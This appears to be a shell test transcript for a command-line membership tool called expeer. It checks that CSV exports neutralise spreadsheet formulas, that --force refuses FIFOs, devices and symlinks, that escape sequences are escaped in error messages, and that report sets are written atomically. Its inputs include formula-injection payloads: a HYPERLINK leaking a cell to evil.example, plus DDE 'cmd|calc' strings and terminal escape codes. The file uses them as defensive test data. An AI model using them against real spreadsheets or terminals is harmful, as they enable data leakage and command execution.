Output that must not bite: cells a spreadsheet would run, files that are not files, escape
sequences in messages, and a report set on a full disk.

  $ . use-database expeer.db
  $ expeer -q db init
  $ expeer -q members add amina@example.org --name '=HYPERLINK("https://evil.example/?"&A2,"Click")' \
  >   --country TN --organisation '-2+3+cmd|'"'"' /C calc'"'"'!A0' --occupation other
  $ expeer -q spaces create sahel --label '+cmd|calc'
  $ expeer -q spaces members add sahel amina@example.org --role contributor
  $ expeer -q news post sahel --title '=1+1' --body x --as amina@example.org --at 2024-08-20T10:00:00Z

Every CSV on standard output goes through the export's writer: what a spreadsheet would run
gets a ' before it, quoted as RFC 4180 says. JSON keeps the values as they are.

  $ expeer members show amina@example.org --format csv
  id,email,name,country,organisation,occupation,language,profile,newsletter_consent,consent_at,consent_source,registered_on,status,disabled_at,external_id,created_at,updated_at
  1,amina@example.org,"'=HYPERLINK(""https://evil.example/?""&A2,""Click"")",TN,'-2+3+cmd|' /C calc'!A0,other,en,member,no,,,2024-09-15,active,,,2024-09-15T08:30:00Z,2024-09-15T08:30:00Z
  $ expeer spaces list --format csv | cut -d, -f1-2
  slug,label
  sahel,'+cmd|calc
  $ expeer news list --format csv
  id,posted_at,space,author,title,comments,body,edited_at
  1,2024-08-20T10:00:00Z,sahel,"'=HYPERLINK(""https://evil.example/?""&A2,""Click"")",'=1+1,0,x,
  $ expeer activity list --format csv
  at,kind,member_id,space,content
  2024-08-20T10:00:00Z,news,1,sahel,'=1+1
  2024-09-15T08:30:00Z,membership,1,sahel,joined as contributor
  $ expeer news list --format json | grep '"title"'
      "title": "=1+1",

--force replaces a regular file, and nothing else: not a FIFO, not a device, not a symbolic
link (which is not followed either, nor is the directory when it is one).

  $ mkfifo fifo
  $ echo kept > real.csv
  $ ln -s real.csv link.csv
  $ ln -s . here
  $ expeer members export fifo --force
  expeer: error: 'fifo' is a FIFO: expeer replaces only regular files
  [73]
  $ expeer members export link.csv --force
  expeer: error: 'link.csv' is a symbolic link: expeer replaces only regular files
  [73]
  $ expeer members export /dev/null --force
  expeer: error: '/dev/null' is a device: expeer replaces only regular files
  [73]
  $ expeer members export here/members.csv
  expeer: error: 'here' is a symbolic link: give the directory it points to
  [73]
  $ test -p fifo && test -L link.csv && test -c /dev/null && cat real.csv
  kept
  $ ls -A | grep -v '^expeer\.db'
  fifo
  here
  link.csv
  real.csv
  $ expeer -q members export members.csv && expeer -q members export members.csv --force && ls -A | grep -vc '^expeer\.db'
  5

Escape sequences in what a person typed or a file holds are shown escaped in errors and
warnings, whatever path the value took to the message (line breaks of the message are kept).

  $ expeer members show $'nobody\e[2J@example.org'
  expeer: error: no member with email 'nobody\x1b[2J@example.org'
  [67]
  $ expeer $'\e]0;owned\a'
  expeer: error: unknown command '\x1b]0;owned\x07' (one of: members, spaces, library, news, talks, activity, stats, letter, map, platform, audit, backup, demo, db, config)
  run 'expeer --help' for usage
  [64]
  $ printf 'email,name,country\nx@example.org,X,\xe2\x80\xaeNT\x1b[2J\n' > form.csv
  $ expeer members import form.csv --dry-run
  expeer: error: form.csv:2: country '\u202eNT\x1b[2J': contains a bidirectional control character
  form.csv: 1 rows: 0 to create, 0 to update, 0 unchanged, 0 to skip, 1 rejected; dry run: nothing written
    rejected: country: contains a bidirectional control character: 1
  [65]

A report set is written whole or not at all: a write that fails midway (here a file size
limit, as a full disk would) leaves the old set as it was and no temporary directory.

  $ expeer -q stats report --year 2024 --lang fr,en --format csv,html --out report
  $ ls report
  expeer-report-2024-01-01_2024-12-31.en.csv
  expeer-report-2024-01-01_2024-12-31.en.html
  expeer-report-2024-01-01_2024-12-31.fr.csv
  expeer-report-2024-01-01_2024-12-31.fr.html
  $ md5sum report/* > before
  $ expeer -q members add jb@example.org --name JB --country CD
  $ (ulimit -f 64; expeer stats report --year 2024 --lang fr,en --format csv,html --out report)
  expeer: error: cannot write 'report/expeer-report-2024-01-01_2024-12-31.fr.html': the file grew larger than this process may write (File too large; see ulimit -f)
  [74]
  $ md5sum --quiet -c before && ls -A | grep report
  report
  $ expeer stats report --year 2024 --lang fr,en --format csv,html --out report
  expeer: wrote report/expeer-report-2024-01-01_2024-12-31.fr.csv
  expeer: wrote report/expeer-report-2024-01-01_2024-12-31.fr.html
  expeer: wrote report/expeer-report-2024-01-01_2024-12-31.en.csv
  expeer: wrote report/expeer-report-2024-01-01_2024-12-31.en.html
  $ md5sum --quiet -c before > /dev/null || echo replaced
  md5sum: WARNING: 4 computed checksums did NOT match
  replaced
  $ ls -A | grep report
  report
